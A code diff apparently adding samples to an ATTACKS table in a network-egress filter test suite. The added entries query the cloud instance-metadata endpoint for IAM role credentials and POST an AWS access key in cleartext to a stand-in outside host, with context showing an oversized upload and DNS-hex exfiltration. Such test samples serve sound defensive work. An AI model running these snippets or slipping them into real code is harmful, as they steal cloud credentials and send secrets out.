@@ -54,6 +54,23 @@ ATTACKS = {
     '''),
     # 8 MB to the allowlisted index itself: allowed host, above its upload limit.
     "index-upload": 'upload("files.pythonhosted.org", 8 * 1024 * 1024, method="PUT")',
+    # The Shai-Hulud/LiteLLM move: ask the instance-metadata service for role credentials.
+    "metadata": textwrap.dedent("""
+        import urllib.request
+        try:
+            urllib.request.urlopen(
+                "http://169.254.169.254/latest/meta-data/iam/security-credentials/", timeout=5
+            ).read()
+        except OSError:
+            pass
+    """),
+    # A stolen key posted in cleartext to a host on no list.
+    "cleartext-key": textwrap.dedent("""
+        import http.client
+        conn = http.client.HTTPConnection("telemetry.example-unknown.net", 80, timeout=10)
+        conn.request("POST", "/c", body=b"aws_access_key_id=AKIAIOSFODNN7EXAMPLE&x=1")
+        conn.getresponse().read()
+    """),
     # Data smuggled out in DNS query names, hex-encoded, one chunk per query.
     "dns-hex": textwrap.dedent("""
         import os, socket, time
